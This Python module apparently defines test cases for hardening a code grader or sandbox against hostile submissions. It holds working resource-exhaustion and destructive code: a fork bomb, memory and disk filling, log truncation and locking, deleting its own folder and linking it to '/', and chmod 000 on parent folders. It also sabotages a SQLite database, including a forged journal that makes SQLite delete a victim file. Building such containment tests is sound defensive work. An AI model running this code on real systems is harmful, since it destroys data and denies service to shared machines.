"""Attacks that use up what all share: memory, processes, files, output; and those that destroy their own."""

from __future__ import annotations

from . import ANY, FAILS, STOPPED, WITH_DATABASE, Attack
from .lasting import _APART

USING = {
    "forks without an end": Attack(
        "a fork bomb, each process in a session of its own",
        after="""
import os
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
""",
        expects=STOPPED,
    ),
    "starts threads without an end": Attack(
        "threads until there are no more",
        after="import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(10_000,)).start()",
        expects=FAILS,
    ),
    "fills the memory": Attack(
        "memory of its own, in many processes that let no one end them",
        after=_APART
        + """
def fill():
    kept = []
    while True:
        kept.append(bytearray(b"x") * (8 << 20))
for _ in range(4):
    apart(fill)
time.sleep(10_000)
""",
        expects=STOPPED,
    ),
    "fills its disk": Attack(
        "a process in the background keeps the room, /tmp and /dev/shm full",
        after=_APART
        + """
def fill():
    number = 0
    while True:
        number += 1
        for folder in (os.path.dirname(os.path.dirname(os.getcwd())), "/tmp", "/dev/shm"):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"x" * (1 << 20))
            except OSError:
                pass
apart(fill)
""",
        expects=STOPPED,
    ),
    "fills its disk with names": Attack(
        "files without content until there are no more names",
        after="""
import os
try:
    for number in range(10**6):
        open(f"{number}.txt", "w").close()
except OSError:
    pass
""",
        expects=STOPPED,
    ),
    "prints without an end": Attack(
        "a log without an end, of bytes that are no text",
        after=_APART
        + """
def fill():
    while True:
        try:
            os.write(1, b"\\x1b[2J\\xff\\xfe\\0" * 100_000)
        except OSError:
            time.sleep(1)
apart(fill)
""",
    ),
    "prints in other encodings": Attack(
        "output, a locale and errors of halves of characters",
        before="""
import locale, os, sys
os.environ.update(LC_ALL="xx_XX.bomb", PYTHONIOENCODING="utf-7", LANG="\\udcff")
for stream in (sys.stdout, sys.stderr):
    print("\\ud800\\x00\\x1b]0;owned\\x07" * 1000, file=stream)
""",
    ),
    "replaces its log": Attack(
        "the log is cut, locked, and written from its beginning",
        after="""
import fcntl, os
for number in (1, 2):
    for change in (lambda: os.ftruncate(number, 0), lambda: fcntl.flock(number, fcntl.LOCK_EX),
                   lambda: os.fchmod(number, 0), lambda: os.lseek(number, 0, 0), lambda: os.fchown(number, 0, 0)):
        try:
            change()
        except OSError:
            pass
""",
    ),
    "deletes its own files": Attack(
        "its own folder is deleted while it runs, and its place taken by another",
        after="""
import os, shutil
here = os.getcwd()
shutil.rmtree(here)
os.symlink("/", here)
""",
        expects=FAILS,
    ),
    "hides its own files": Attack(
        "chmod 000 for its own files, and for the folder around them",
        after="""
import os
here = os.getcwd()
for folder, folders, files in os.walk(here, topdown=False):
    for name in files:
        os.chmod(os.path.join(folder, name), 0)
for folder in (f"{here}/templates", here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
    try:
        os.chmod(folder, 0)
    except OSError:
        pass
""",
        expects=STOPPED,
    ),
    "digs a pit": Attack(
        "thousands of folders in one another",
        after="""
import os
here = os.getcwd()
for _ in range(2000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
""",
    ),
    "sends the providers too much": Attack(
        "endless requests of a megabyte fill the memory of the process that checks",
        after=_APART
        + """
def fill():
    import threading, requests
    def one():
        while True:
            try:
                requests.post(TWITTER_URL + "/oauth/request_token", data=b"x" * 1_000_000, timeout=5)
            except Exception:
                pass
    for _ in range(8):
        threading.Thread(target=one).start()
apart(fill)
""",
        expects=ANY,
    ),
}

_AFTER_EACH = """
import os, sqlite3, struct
database = os.environ["DATABASE_URL"].partition("///")[2]
@app.after_request
def _attack(response):
    try:
        attack()
    except Exception as error:
        print(error)
    return response
"""


def _on_data(tries: str, code: str) -> Attack:
    return Attack(tries, after=f"{_AFTER_EACH}\n{code}", expects=STOPPED, step=WITH_DATABASE)


_INSTEAD = """
def attack():
    for name in os.listdir(os.path.dirname(database)):
        os.unlink(os.path.join(os.path.dirname(database), name))
    {code}
"""

DATA = {
    "a database that is a pipe": _on_data(
        "who opens it waits for ever", _INSTEAD.format(code="os.mkfifo(database, 0o666)")
    ),
    "a database that is a link": _on_data(
        "who opens it opens a file of the teacher's",
        _INSTEAD.format(code="os.symlink(os.environ['VICTIM'], database)"),
    ),
    "a database that is a folder": _on_data(
        "who opens it cannot", _INSTEAD.format(code="os.mkdir(database)")
    ),
    "a database that is none": _on_data(
        "who opens it reads anything", _INSTEAD.format(code="open(database, 'wb').write(os.urandom(1 << 20))")
    ),
    "a journal that names another file": _on_data(
        "SQLite ends a transaction that was cut off, and deletes the file that a journal names",
        """
def attack():
    victim = os.environ["VICTIM"].encode()
    with open(database, "rb") as file:
        page = file.read(4096)
    magic = bytes.fromhex("d9d505f920a163d7")
    head = magic + struct.pack(">IIIII", 1, 0, os.path.getsize(database) // 4096, 512, 4096)
    entry = struct.pack(">I", 1) + page + struct.pack(">I", sum(page[at] for at in range(3896, 0, -200)))
    named = struct.pack(">I", 262145) + victim + struct.pack(">II", len(victim), sum(victim)) + magic
    with open(database + "-journal", "wb") as file:
        file.write(head.ljust(512, bytes(1)) + entry + named)
""",
    ),
    "a table without an end": _on_data(
        "who counts its rows never ends",
        """
def attack():
    with sqlite3.connect(database) as connection:
        connection.execute("ALTER TABLE users RENAME TO hidden")
        connection.execute("CREATE VIEW users AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n) "
            "SELECT id, 'a' AS name, 'b' AS email, id AS twitter_id, id AS facebook_id FROM n")
""",
    ),
    "a lock without an end": _on_data(
        "who wants to write waits",
        """
kept = []
def attack():
    kept.append(sqlite3.connect(database, isolation_level=None, check_same_thread=False))
    kept[-1].execute("BEGIN EXCLUSIVE")
""",
    ),
}
